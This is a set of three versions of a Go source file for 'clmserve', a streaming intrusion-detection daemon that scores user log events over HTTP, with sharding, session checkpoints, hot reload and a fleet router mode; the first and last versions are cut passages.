//	POST /reload  hot-swap the scorer from ?bundle=dir (default: the
//	              active bundle directory — the -bundle flag, or the
//	              directory of the last successful reload). The swap is
//	              atomic between scoring batches across every shard;
//	              nothing is dropped and no batch mixes scorers. SIGHUP
//	              triggers the same reload of the active bundle directory.
//
// The detector is sharded across -shards (default GOMAXPROCS) partitions
// keyed by hash(user): each shard owns its sessions, its bounded queue,
// its coalescing worker, and a scorer replica sharing the frozen backbone
// weights, so shards score concurrently while per-user event order — and
// every verdict — stays identical to the unsharded detector. When a
// shard's worker falls behind, -overload decides what /score does: block
// (HTTP-level backpressure through TCP, the default), shed (429 +
// Retry-After), or degrade (keep accepting and downshift saturated shards
// down the precision ladder, recovering on calm — see internal/stream).
// A malformed NDJSON line yields a per-line error record in the response
// stream; the connection and every well-formed line keep scoring.
//
// With -checkpoint the daemon periodically snapshots every per-user
// session window to the named file (atomic rename), restores it at
// startup, and writes a final snapshot after draining — a restart resumes
// mid-chain sessions and trips the same alarms an uninterrupted run would.
// On SIGINT/SIGTERM the daemon stops accepting requests, drains every
// queued event on every shard through the detector, checkpoints, and
// exits.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	_ "net/http/pprof" // /debug/pprof/* on the -pprof debug listener only
	"os"
	"os/signal"
	"runtime"
	"strings"
	"syscall"
	"time"

	"clmids/internal/commercial"
	"clmids/internal/core"
	"clmids/internal/corpus"
	"clmids/internal/fleet"
	"clmids/internal/modality"
	"clmids/internal/model"
	"clmids/internal/serve"
	"clmids/internal/stream"
	"clmids/internal/tuning"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "clmserve:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("clmserve", flag.ContinueOnError)
	bundleDir := fs.String("bundle", "", "scorer bundle directory (cold start: no baseline, no tuning); the initial /reload and SIGHUP source (rebound by an explicit /reload?bundle=dir)")
	modelDir := fs.String("model", "model", "trained pipeline directory (ignored with -bundle)")
	baseline := fs.String("baseline", "train.jsonl", "labeled baseline log (JSONL) for supervision (ignored with -bundle)")
	method := fs.String("method", "retrieval", "detection method: classifier | retrieval | reconstruction | pca (ignored with -bundle: the manifest decides)")
	addr := fs.String("addr", ":8080", "listen address")
	epochs := fs.Int("epochs", 8, "classifier tuning epochs")
	seed := fs.Int64("seed", 1, "tuning seed")
	contextN := fs.Int("context", 1, "session lines joined per scoring input (§IV-C)")
	aggregation := fs.String("aggregation", "decay", "session aggregation: max | mean | decay")
	lineThr := fs.Float64("line-threshold", 0, "per-line alert threshold (0 disables)")
	sessThr := fs.Float64("session-threshold", 0, "session alert threshold (0 disables)")
	idle := fs.Int64("idle-timeout", 1800, "session idle timeout in seconds")
	maxLines := fs.Int("max-session-lines", 64, "sliding window length per session")
	queue := fs.Int("queue", 64, "bounded ingest queue per shard (requests); full queue blocks /score")
	batch := fs.Int("batch", 512, "events coalesced per scoring batch per shard")
	overload := fs.String("overload", "block", "full-queue policy: block (backpressure) | shed (429 + Retry-After) | degrade (downshift saturated shards down the precision ladder, recover on calm)")
	degradeAfter := fs.Duration("degrade-after", 2*time.Second, "sustained saturation before the degrade policy downshifts a shard one precision rung")
	recoverAfter := fs.Duration("recover-after", 15*time.Second, "sustained calm before a degraded shard shifts one rung back up")
	checkpoint := fs.String("checkpoint", "", "session checkpoint file: restored at startup, rewritten every -checkpoint-interval and after draining (empty disables)")
	ckptInterval := fs.Duration("checkpoint-interval", time.Minute, "how often to rewrite the session checkpoint")
	shards := fs.Int("shards", 0, "detector shards keyed by hash(user) (0 = GOMAXPROCS); each shard scores concurrently on its own scorer replica")
	modalityPin := fs.String("modality", "", "pin the served log modality ("+modality.FlagHelp()+"): the startup artifact and every reload must match, or they are rejected; empty adopts the first loaded artifact's modality")
	precision := fs.String("precision", "", "serve-path precision: float64 | float32 | int8 (with -bundle the manifest decides unless this overrides; applies at startup, reloads follow their bundle's manifest)")
	cascade := fs.Bool("cascade", false, "serve the scoring cascade: rarity pre-filter -> int8 triage -> f64 confirm (with -bundle the bundle must carry a cascade section, see clmtrain -cascade; without, thresholds are calibrated from the baseline at startup); per-rung traffic shows in /stats")
	pprofAddr := fs.String("pprof", "", "expose net/http/pprof on this extra debug listener (e.g. 127.0.0.1:6060); scoring, liveness, and readiness stay on -addr")
	drainTimeout := fs.Duration("drain-timeout", 0, "bound the SIGTERM/SIGINT drain: after this long a wedged shard is abandoned and the final checkpoint covers what drained (0 waits forever)")
	router := fs.Bool("router", false, "run as a fleet router over -replicas instead of serving a scorer: consistent-hash user -> replica, health-probed ejection/readmission, retry/backoff/hedging, session failover, rolling /reload")
	replicasFlag := fs.String("replicas", "", "comma-separated replica base URLs for -router mode (e.g. http://127.0.0.1:8081,http://127.0.0.1:8082)")
	probeInterval := fs.Duration("probe-interval", 500*time.Millisecond, "router health-probe period per replica")
	requestTimeout := fs.Duration("request-timeout", 15*time.Second, "router per-request timeout for proxied score/export/import calls")
	hedgeAfter := fs.Duration("hedge-after", 0, "router: hedge a stalled score request to the failover successor after this long (0 disables)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *router {
		// Router mode: no scorer, no baseline — just the fleet tier. The
		// -bundle flag doubles as the default rolling-reload source.
		return runRouter(*addr, *replicasFlag, *bundleDir, *batch, *probeInterval, *requestTimeout, *hedgeAfter)
	}
	if *shards <= 0 {
		*shards = runtime.GOMAXPROCS(0)
	}
	overloadPolicy, err := stream.ParseOverloadPolicy(*overload)
	if err != nil {
		return err
	}
	// "" means follow the bundle manifest (or float64 on the legacy path);
	// validate an explicit value before any loading happens.
	var prec model.Precision
	if *precision != "" {
		var err error
		if prec, err = model.ParsePrecision(*precision); err != nil {
			return err
		}
	}
	if *cascade && *precision != "" {
		// The cascade pins its own rungs (int8 triage, f64 confirm); a
		// flat-precision override contradicts it.
		return errors.New("-cascade and -precision are mutually exclusive: the cascade serves int8 triage with float64 confirm")
	}

	agg, err := stream.ParseAggregation(*aggregation)
	if err != nil {
		return err
	}
	// Fail a typoed method or modality in milliseconds, not after loading
	// the model; the modality error lists the registered names.
	if *bundleDir == "" {
		if err := core.ValidateMethod(*method); err != nil {
			return err
		}
	}
	if *modalityPin != "" {
		if err := modality.Validate(*modalityPin); err != nil {
			return err
		}
	}

	scfg := stream.DefaultConfig()
	scfg.ContextWindow = *contextN
	scfg.Aggregation = agg
	scfg.LineThreshold = *lineThr
	scfg.SessionThreshold = *sessThr
	scfg.IdleTimeout = *idle
	scfg.MaxSessionLines = *maxLines

	// The socket opens before the scorer exists: /healthz answers 200
	// immediately (liveness) while /readyz and /score answer 503 until the
	// build/load below finishes, so restart supervisors see a live process
	// and load balancers see a not-yet-ready replica instead of a black
	// hole during the (potentially minutes-long) warm start.
	d := serve.NewDaemon(*bundleDir, *cascade)
	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	server := &http.Server{Handler: serve.NewHandler(d, *batch)}
	errc := make(chan error, 1)
	go func() { errc <- server.Serve(ln) }()
	fmt.Fprintf(os.Stderr, "clmserve: listening on %s (not ready yet)\n", ln.Addr())

	// Optional pprof debug listener, separate from the serving socket so
	// profiling the hot path never contends with liveness/readiness or
	// scoring routes. The net/http/pprof import registers its handlers on
	// the DefaultServeMux, which only this listener serves.
	if *pprofAddr != "" {
		dln, err := net.Listen("tcp", *pprofAddr)
		if err != nil {
			server.Close()
			return fmt.Errorf("pprof listener: %w", err)
		}
		go func() {
			if err := http.Serve(dln, nil); err != nil {
				fmt.Fprintf(os.Stderr, "clmserve: pprof listener: %v\n", err)
			}
		}()
		fmt.Fprintf(os.Stderr, "clmserve: pprof debug listener on http://%s/debug/pprof/\n", dln.Addr())
	}

	// Register signals before the (potentially minutes-long) scorer
	// build/load: SIGHUP's default disposition kills the process, so an
	// early reload request must be queued for the serving loop below, not
	// terminate a warming replica.
	sigc := make(chan os.Signal, 2)
	signal.Notify(sigc, syscall.SIGINT, syscall.SIGTERM, syscall.SIGHUP)

	var scorer tuning.Scorer
	version, served := "", ""
	if *bundleDir != "" {
		lb, err := core.LoadScorerBundle(*bundleDir)
		if err != nil {
			server.Close()
			return err
		}
		if *modalityPin != "" {
			// The pin wins over the artifact: a bundle trained for another
			// modality is rejected before it ever scores a line.
			if err := lb.CheckModality(*modalityPin); err != nil {
				server.Close()
				return err
			}
		}
		scorer, version, *method = lb.Scorer, lb.Manifest.Version, lb.Manifest.Method
		served = lb.Modality()
		fmt.Fprintf(os.Stderr, "clmserve: loaded %s bundle %s (modality %s, no tuning)\n", *method, version, served)
		if *cascade {
			if scorer, err = core.BuildCascade(lb.Scorer, lb.Cascade); err != nil {
				server.Close()
				return err
			}
			fmt.Fprintf(os.Stderr, "clmserve: serving the scoring cascade (clear<=%.3g, escalate>=%.4g)\n",
				lb.Cascade.Params.ClearThreshold, lb.Cascade.Params.EscalateLow)
		}
		if *precision != "" {
			// Startup override: rebind the serving engine before any
			// replica exists; the head and backbone are untouched.
			if err := tuning.SetScorerPrecision(scorer, prec); err != nil {
				server.Close()
				return err
			}
			fmt.Fprintf(os.Stderr, "clmserve: serving at %s precision\n", prec)
		}
	} else {
		scorer, served, err = buildScorerFromBaseline(*modelDir, *baseline, *method, *epochs, *seed, prec, *cascade)
		if err != nil {
			server.Close()
			return err
		}
		if pin := modality.Canonical(*modalityPin); *modalityPin != "" && served != pin {
			server.Close()
			return fmt.Errorf("%w: pipeline %s is %q, server pinned to %q",
				core.ErrModalityMismatch, *modelDir, served, pin)
		}
	}

	// One scorer replica per shard: the frozen backbone and fitted
	// artifacts are shared, only engine scratch + LRU cache replicate.
	replicas, err := core.ReplicateScorer(scorer, *shards)
	if err != nil {
		server.Close()
		return err
	}
	sharded, err := stream.NewShardedDetector(replicas, scfg)
	if err != nil {
		server.Close()
		return err
	}
	sharded.SetScorerVersion(version)
	sharded.SetModality(served)
	svc := stream.NewShardedService(sharded, stream.ServiceConfig{
		QueueRequests: *queue,
		BatchEvents:   *batch,
		Overload:      overloadPolicy,
		DegradeAfter:  *degradeAfter,
		RecoverAfter:  *recoverAfter,
	})

	// Restore the previous run's sessions before any traffic: a missing
	// checkpoint is a cold start, a corrupt or incompatible one is logged
	// and skipped (serving fresh beats not serving).
	if *checkpoint != "" {
		if f, err := os.Open(*checkpoint); err == nil {
			rerr := svc.RestoreSessions(f)
			f.Close()
			if rerr != nil {
				fmt.Fprintf(os.Stderr, "clmserve: checkpoint %s not restored (%v); starting fresh\n", *checkpoint, rerr)
			} else {
				fmt.Fprintf(os.Stderr, "clmserve: restored %d sessions from %s\n",
					svc.Stats().ActiveSessions, *checkpoint)
			}
		} else if !errors.Is(err, os.ErrNotExist) {
			fmt.Fprintf(os.Stderr, "clmserve: checkpoint %s unreadable (%v); starting fresh\n", *checkpoint, err)
		}
	}
	d.Attach(svc, served)

	// Periodic idle-session sweep bounds memory across a large user
	// population. It runs on the stream's high-water event time, not wall
	// clock: on live traffic the two track each other, while replayed or
	// backfilled logs (historical timestamps) keep their sessions instead
	// of being evicted against the real clock.
	sweep := time.NewTicker(time.Minute)
	defer sweep.Stop()
	go func() {
		for range sweep.C {
			// Wall clock caps the sweep horizon: one far-future timestamp
			// (e.g. milliseconds sent as seconds) must not poison the
			// high-water mark into evicting every live session. The sweep
			// fans out across every shard.
			hw := svc.HighWater()
			if now := time.Now().Unix(); hw > now {
				hw = now
			}
			svc.EvictIdle(hw)
		}
	}()

	// Periodic session checkpoint: atomic (tmp + rename), so a crash
	// mid-write leaves the previous snapshot intact.
	if *checkpoint != "" {
		ckptTick := time.NewTicker(*ckptInterval)
		defer ckptTick.Stop()
		go func() {
			for range ckptTick.C {
				if err := serve.WriteCheckpointFile(svc, *checkpoint); err != nil {
					fmt.Fprintf(os.Stderr, "clmserve: checkpoint: %v\n", err)
				}
			}
		}()
	}

	fmt.Fprintf(os.Stderr, "clmserve: %s scorer serving %s logs on %s (%d shards, overload=%s)\n",
		*method, served, ln.Addr(), *shards, overloadPolicy)

	for {
		select {
		case err := <-errc:
			svc.Close()
			return err
		case sig := <-sigc:
			if sig == syscall.SIGHUP {
				// Hot-reload the active bundle directory (the -bundle flag,
				// or the last successful /reload source); serving continues
				// throughout, a failed reload keeps the old scorer.
				if v, err := d.Reload(""); err != nil {
					fmt.Fprintf(os.Stderr, "clmserve: SIGHUP reload failed: %v\n", err)
				} else {
					fmt.Fprintf(os.Stderr, "clmserve: SIGHUP reloaded bundle %s\n", v)
				}
				continue
			}
			fmt.Fprintf(os.Stderr, "clmserve: %v: draining...\n", sig)
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			if err := server.Shutdown(ctx); err != nil {
				// A never-ending streaming /score client keeps its handler
				// active past the deadline; force-close it — the drain below
				// still answers everything the queue accepted.
				fmt.Fprintf(os.Stderr, "clmserve: forced shutdown: %v\n", err)
				server.Close()
			}
			// Drain queued requests through the detector, bounded by
			// -drain-timeout: a wedged shard must not hang shutdown forever.
			// On expiry the abandoned shard's queue is lost, but everything
			// that did drain is in the final checkpoint below.
			if !svc.CloseTimeout(*drainTimeout) {
				fmt.Fprintf(os.Stderr, "clmserve: drain exceeded %s; abandoning wedged shards and checkpointing what drained\n", *drainTimeout)
			}
			if *checkpoint != "" {
				// Checkpoint after the drain: every accepted event is in the
				// snapshot, so the next start resumes exactly here.
				if err := serve.WriteCheckpointFile(svc, *checkpoint); err != nil {
					fmt.Fprintf(os.Stderr, "clmserve: final checkpoint: %v\n", err)
				} else {
					fmt.Fprintf(os.Stderr, "clmserve: checkpointed sessions to %s\n", *checkpoint)
				}
			}
			st := svc.Stats()
			fmt.Fprintf(os.Stderr, "clmserve: drained; %d events scored, %d session alerts\n",
				st.Events, st.SessionAlerts)
			return nil
		}
	}
}

// buildScorerFromBaseline is the legacy warm start: load the pipeline and
// tune the method head over the labeled baseline log; prec selects the
// serving engine's arithmetic rung (tuning itself always runs in float64).
// The returned modality is the pipeline's, so the caller can enforce a
// -modality pin and stamp the serving stats.
func buildScorerFromBaseline(modelDir, baseline, method string, epochs int, seed int64, prec model.Precision, cascade bool) (tuning.Scorer, string, error) {
	pl, err := core.LoadPipeline(modelDir)
	if err != nil {
		return nil, "", err
	}
	served := pl.Pre.Modality()
	bf, err := os.Open(baseline)
	if err != nil {
		return nil, "", err
	}
	ds, err := corpus.ReadJSONL(bf)
	bf.Close()
	if err != nil {
		return nil, "", err
	}
	baseLines := ds.Lines()
	var labels []bool
	if served == modality.Shell {
		labels, err = commercial.Default().Label(baseLines, commercial.DefaultNoise(), seed)
		if err != nil {
			return nil, "", err
		}
	} else {
		// The commercial IDS rule set is shell-only; other modalities use the
		// in-box oracle carried by the labeled baseline log.
		labels = make([]bool, len(ds.Samples))
		for i, s := range ds.Samples {
			labels[i] = s.Label == corpus.Intrusion && s.InBox
		}
	}
	fmt.Fprintf(os.Stderr, "clmserve: building %s scorer over %d baseline lines...\n", method, len(baseLines))
	sc, err := core.BuildScorer(pl, core.ScorerConfig{
		Method: method, Epochs: epochs, Seed: seed, Precision: prec,
	}, baseLines, labels)
	if err != nil || !cascade {
		return sc, served, err
	}
	// Cascade warm start: calibrate the rung-0 table and escalation band
	// against this scorer's own scores of the baseline, then compose.
	art, err := core.CalibrateCascade(sc, served, baseLines, core.DefaultCascadeConfig())
	if err != nil {
		return nil, "", err
	}
	casc, err := core.BuildCascade(sc, art)
	if err != nil {
		return nil, "", err
	}
	fmt.Fprintf(os.Stderr, "clmserve: calibrated scoring cascade (clear<=%.3g, escalate>=%.4g)\n",
		art.Params.ClearThreshold, art.Params.EscalateLow)
	return casc, served, nil
}

// runRouter is -router mode: no scorer, no baseline — the process becomes
// the fleet tier (internal/fleet) over the given replicas, serving the
// same NDJSON /score protocol with health-probed ejection/readmission,
// retry/backoff/hedging, session failover, and rolling zero-drop /reload
// (also on SIGHUP). bundleDir is the default rolling-reload source.
func runRouter(addr, replicaList, bundleDir string, chunk int, probeInterval, requestTimeout, hedgeAfter time.Duration) error {
	var addrs []string
	for _, a := range strings.Split(replicaList, ",") {
		if a = strings.TrimSpace(a); a != "" {
			addrs = append(addrs, a)
		}
	}
	if len(addrs) == 0 {
		return errors.New("-router requires -replicas=url1,url2,...")
	}
	rt, err := fleet.New(fleet.Config{
		Replicas:       addrs,
		ProbeInterval:  probeInterval,
		RequestTimeout: requestTimeout,
		HedgeAfter:     hedgeAfter,
		Chunk:          chunk,
		BundleDir:      bundleDir,
		Logf: func(format string, args ...any) {
			fmt.Fprintf(os.Stderr, "clmserve: "+format+"\n", args...)
		},
	})
	if err != nil {
		return err
	}

	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	server := &http.Server{Handler: rt.Handler()}
	errc := make(chan error, 1)
	go func() { errc <- server.Serve(ln) }()

	sigc := make(chan os.Signal, 2)
	signal.Notify(sigc, syscall.SIGINT, syscall.SIGTERM, syscall.SIGHUP)

	rt.Start()
	defer rt.Stop()
	fmt.Fprintf(os.Stderr, "clmserve: fleet router on %s over %d replicas\n", ln.Addr(), len(addrs))

	for {
		select {
		case err := <-errc:
			return err
		case sig := <-sigc:
			if sig == syscall.SIGHUP {
				// Rolling reload of the active bundle across the fleet, one
				// replica out of rotation at a time.
				go func() {
					done, err := rt.RollingReload(context.Background(), "")
					if err != nil {
						fmt.Fprintf(os.Stderr, "clmserve: SIGHUP rolling reload failed: %v (%d replicas reloaded)\n", err, len(done))
						return
					}
					fmt.Fprintf(os.Stderr, "clmserve: SIGHUP rolling reload done (%d replicas)\n", len(done))
				}()
				continue
			}
			fmt.Fprintf(os.Stderr, "clmserve: %v: router shutting down\n", sig)
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			if err := server.Shutdown(ctx); err != nil {
				server.Close()
			}
			return nil
		}
	}
}
