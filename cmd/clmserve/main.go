// Command clmserve is the streaming detection daemon: it loads a trained
// pipeline (see clmtrain), builds one of the paper's detection methods
// over a labeled baseline log, and serves NDJSON-over-HTTP scoring with
// session-aware aggregation (see internal/stream).
//
// Usage:
//
//	clmserve -model model/ -baseline data/train.jsonl \
//	         -method retrieval -addr :8080 \
//	         -context 3 -aggregation decay -session-threshold 0.8
//
// Endpoints:
//
//	POST /score   body: NDJSON events {"user":..,"time":..,"line":..}
//	              (corpus JSONL records work verbatim; extra fields are
//	              ignored, a missing time defaults to arrival time).
//	              response: NDJSON verdicts, one per event, in order.
//	GET  /stats   JSON snapshot of detector + queue counters, aggregated
//	              and per shard (queue depth, LRU hit rate — load skew
//	              from hot users hashing to one shard is visible here).
//
// The detector is sharded across -shards (default GOMAXPROCS) partitions
// keyed by hash(user): each shard owns its sessions, its bounded queue,
// its coalescing worker, and a scorer replica sharing the frozen backbone
// weights, so shards score concurrently while per-user event order — and
// every verdict — stays identical to the unsharded detector. When a
// shard's worker falls behind, /score blocks (HTTP-level backpressure)
// instead of buffering unboundedly. On SIGINT/SIGTERM the daemon stops
// accepting requests, drains every queued event on every shard through
// the detector, and exits.
package main

import (
	"bufio"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"runtime"
	"syscall"
	"time"

	"clmids/internal/commercial"
	"clmids/internal/core"
	"clmids/internal/corpus"
	"clmids/internal/stream"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "clmserve:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("clmserve", flag.ContinueOnError)
	modelDir := fs.String("model", "model", "trained pipeline directory")
	baseline := fs.String("baseline", "train.jsonl", "labeled baseline log (JSONL) for supervision")
	method := fs.String("method", "retrieval", "detection method: classifier | retrieval | reconstruction | pca")
	addr := fs.String("addr", ":8080", "listen address")
	epochs := fs.Int("epochs", 8, "classifier tuning epochs")
	seed := fs.Int64("seed", 1, "tuning seed")
	contextN := fs.Int("context", 1, "session lines joined per scoring input (§IV-C)")
	aggregation := fs.String("aggregation", "decay", "session aggregation: max | mean | decay")
	lineThr := fs.Float64("line-threshold", 0, "per-line alert threshold (0 disables)")
	sessThr := fs.Float64("session-threshold", 0, "session alert threshold (0 disables)")
	idle := fs.Int64("idle-timeout", 1800, "session idle timeout in seconds")
	maxLines := fs.Int("max-session-lines", 64, "sliding window length per session")
	queue := fs.Int("queue", 64, "bounded ingest queue per shard (requests); full queue blocks /score")
	batch := fs.Int("batch", 512, "events coalesced per scoring batch per shard")
	shards := fs.Int("shards", 0, "detector shards keyed by hash(user) (0 = GOMAXPROCS); each shard scores concurrently on its own scorer replica")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *shards <= 0 {
		*shards = runtime.GOMAXPROCS(0)
	}

	agg, err := stream.ParseAggregation(*aggregation)
	if err != nil {
		return err
	}

	pl, err := core.LoadPipeline(*modelDir)
	if err != nil {
		return err
	}
	bf, err := os.Open(*baseline)
	if err != nil {
		return err
	}
	ds, err := corpus.ReadJSONL(bf)
	bf.Close()
	if err != nil {
		return err
	}
	baseLines := ds.Lines()
	ids := commercial.Default()
	labels, err := ids.Label(baseLines, commercial.DefaultNoise(), *seed)
	if err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "clmserve: building %s scorer over %d baseline lines...\n", *method, len(baseLines))
	scorer, err := core.BuildScorer(pl, core.ScorerConfig{
		Method: *method, Epochs: *epochs, Seed: *seed,
	}, baseLines, labels)
	if err != nil {
		return err
	}

	scfg := stream.DefaultConfig()
	scfg.ContextWindow = *contextN
	scfg.Aggregation = agg
	scfg.LineThreshold = *lineThr
	scfg.SessionThreshold = *sessThr
	scfg.IdleTimeout = *idle
	scfg.MaxSessionLines = *maxLines
	// One scorer replica per shard: the frozen backbone and fitted
	// artifacts are shared, only engine scratch + LRU cache replicate.
	replicas, err := core.ReplicateScorer(scorer, *shards)
	if err != nil {
		return err
	}
	sharded, err := stream.NewShardedDetector(replicas, scfg)
	if err != nil {
		return err
	}
	svc := stream.NewShardedService(sharded,
		stream.ServiceConfig{QueueRequests: *queue, BatchEvents: *batch})

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	server := &http.Server{Handler: newHandler(svc, *batch)}

	// Periodic idle-session sweep bounds memory across a large user
	// population. It runs on the stream's high-water event time, not wall
	// clock: on live traffic the two track each other, while replayed or
	// backfilled logs (historical timestamps) keep their sessions instead
	// of being evicted against the real clock.
	sweep := time.NewTicker(time.Minute)
	defer sweep.Stop()
	go func() {
		for range sweep.C {
			// Wall clock caps the sweep horizon: one far-future timestamp
			// (e.g. milliseconds sent as seconds) must not poison the
			// high-water mark into evicting every live session. The sweep
			// fans out across every shard.
			hw := svc.HighWater()
			if now := time.Now().Unix(); hw > now {
				hw = now
			}
			svc.EvictIdle(hw)
		}
	}()

	errc := make(chan error, 1)
	go func() { errc <- server.Serve(ln) }()
	fmt.Fprintf(os.Stderr, "clmserve: %s scorer serving on %s (%d shards)\n", *method, ln.Addr(), *shards)

	sigc := make(chan os.Signal, 1)
	signal.Notify(sigc, syscall.SIGINT, syscall.SIGTERM)
	select {
	case err := <-errc:
		svc.Close()
		return err
	case sig := <-sigc:
		fmt.Fprintf(os.Stderr, "clmserve: %v: draining...\n", sig)
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		if err := server.Shutdown(ctx); err != nil {
			// A never-ending streaming /score client keeps its handler
			// active past the deadline; force-close it — the drain below
			// still answers everything the queue accepted.
			fmt.Fprintf(os.Stderr, "clmserve: forced shutdown: %v\n", err)
			server.Close()
		}
		svc.Close() // drain queued requests through the detector
		st := svc.Stats()
		fmt.Fprintf(os.Stderr, "clmserve: drained; %d events scored, %d session alerts\n",
			st.Events, st.SessionAlerts)
		return nil
	}
}

// newHandler wires the HTTP surface over the streaming service.
func newHandler(svc *stream.Service, chunk int) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/score", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST NDJSON events", http.StatusMethodNotAllowed)
			return
		}
		handleScore(svc, chunk, w, r)
	})
	mux.HandleFunc("/stats", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		enc.Encode(svc.Stats())
	})
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, "ok")
	})
	return mux
}

// handleScore streams NDJSON events through the service in chunks,
// writing NDJSON verdicts back as each chunk completes. Submitting chunk
// by chunk (rather than slurping the body) keeps memory bounded and
// propagates queue backpressure to the client through TCP.
func handleScore(svc *stream.Service, chunk int, w http.ResponseWriter, r *http.Request) {
	if chunk <= 0 {
		chunk = 512
	}
	// Verdicts stream back while the request body is still arriving; on
	// HTTP/1 the server otherwise closes the read side at the first
	// response write. (HTTP/2 is duplex already; the error is ignorable.)
	_ = http.NewResponseController(w).EnableFullDuplex()
	w.Header().Set("Content-Type", "application/x-ndjson")
	out := bufio.NewWriter(w)
	enc := json.NewEncoder(out)
	sc := bufio.NewScanner(r.Body)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)

	events := make([]stream.Event, 0, chunk)
	lineNo, wrote := 0, false
	flush := func() bool {
		verdicts, err := svc.Submit(events)
		events = events[:0]
		if err != nil {
			if !wrote {
				http.Error(w, err.Error(), http.StatusServiceUnavailable)
				return false
			}
			// Headers are already out; surface the error in-band.
			enc.Encode(map[string]string{"error": err.Error()})
			out.Flush()
			return false
		}
		for i := range verdicts {
			enc.Encode(&verdicts[i])
		}
		out.Flush()
		wrote = wrote || len(verdicts) > 0
		return true
	}

	for sc.Scan() {
		lineNo++
		raw := sc.Bytes()
		if len(raw) == 0 {
			continue
		}
		var ev stream.Event
		if err := json.Unmarshal(raw, &ev); err != nil {
			if !wrote {
				http.Error(w, fmt.Sprintf("line %d: %v", lineNo, err), http.StatusBadRequest)
				return
			}
			enc.Encode(map[string]string{"error": fmt.Sprintf("line %d: %v", lineNo, err)})
			out.Flush()
			return
		}
		if ev.Time == 0 {
			ev.Time = time.Now().Unix()
		}
		if ev.User == "" {
			ev.User = "-"
		}
		events = append(events, ev)
		if len(events) >= chunk {
			if !flush() {
				return
			}
		}
	}
	if err := sc.Err(); err != nil {
		enc.Encode(map[string]string{"error": err.Error()})
		out.Flush()
		return
	}
	flush()
}
