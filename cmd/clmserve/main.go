// Command clmserve is the streaming detection daemon: it serves
// NDJSON-over-HTTP scoring with session-aware aggregation (see
// internal/stream) over one of the paper's detection methods, obtained one
// of two ways:
//
//   - -bundle dir: cold start from a versioned scorer bundle (see clmtrain
//     -bundle and internal/core). No baseline corpus is read and no tuning
//     runs at startup — the bundle carries the backbone, tokenizer, and
//     method head, and the daemon is ready as soon as they deserialize.
//   - -model + -baseline: legacy warm start — load a trained pipeline,
//     build the method scorer over a labeled baseline log at startup
//     (minutes for the tuned methods).
//
// Usage:
//
//	clmserve -bundle bundle/ -addr :8080 \
//	         -context 3 -aggregation decay -session-threshold 0.8
//
// Endpoints:
//
//	POST /score   body: NDJSON events {"user":..,"time":..,"line":..}
//	              (corpus JSONL records work verbatim; extra fields are
//	              ignored, a missing time defaults to arrival time).
//	              response: NDJSON verdicts, one per event, in order.
//	              503 until the scorer is ready.
//	GET  /stats   JSON snapshot of detector + queue counters, aggregated
//	              and per shard (queue depth, LRU hit rate, active scorer
//	              bundle version; with -cascade, the per-rung traffic
//	              split: cleared / triaged / escalated).
//	GET  /healthz liveness: 200 from the moment the socket is open, even
//	              during the potentially minutes-long scorer build/load.
//	GET  /readyz  readiness: 503 until the scorer is serving — the probe
//	              load balancers should route on.
//	POST /reload  hot-swap the scorer from ?bundle=dir (default: the
//	              active bundle directory — the -bundle flag, or the
//	              directory of the last successful reload). The swap is
//	              atomic between scoring batches across every shard;
//	              nothing is dropped and no batch mixes scorers. SIGHUP
//	              triggers the same reload of the active bundle directory.
//
// The detector is sharded across -shards (default GOMAXPROCS) partitions
// keyed by hash(user): each shard owns its sessions, its bounded queue,
// its coalescing worker, and a scorer replica sharing the frozen backbone
// weights, so shards score concurrently while per-user event order — and
// every verdict — stays identical to the unsharded detector. When a
// shard's worker falls behind, -overload decides what /score does: block
// (HTTP-level backpressure through TCP, the default), shed (429 +
// Retry-After), or degrade (keep accepting and downshift saturated shards
// down the precision ladder, recovering on calm — see internal/stream).
// A malformed NDJSON line yields a per-line error record in the response
// stream; the connection and every well-formed line keep scoring.
//
// With -checkpoint the daemon periodically snapshots every per-user
// session window to the named file (atomic rename), restores it at
// startup, and writes a final snapshot after draining — a restart resumes
// mid-chain sessions and trips the same alarms an uninterrupted run would.
// On SIGINT/SIGTERM the daemon stops accepting requests, drains every
// queued event on every shard through the detector, checkpoints, and
// exits.
package main

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	_ "net/http/pprof" // /debug/pprof/* on the -pprof debug listener only
	"os"
	"os/signal"
	"runtime"
	"sync"
	"syscall"
	"time"

	"clmids/internal/commercial"
	"clmids/internal/core"
	"clmids/internal/corpus"
	"clmids/internal/modality"
	"clmids/internal/model"
	"clmids/internal/stream"
	"clmids/internal/tuning"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "clmserve:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("clmserve", flag.ContinueOnError)
	bundleDir := fs.String("bundle", "", "scorer bundle directory (cold start: no baseline, no tuning); the initial /reload and SIGHUP source (rebound by an explicit /reload?bundle=dir)")
	modelDir := fs.String("model", "model", "trained pipeline directory (ignored with -bundle)")
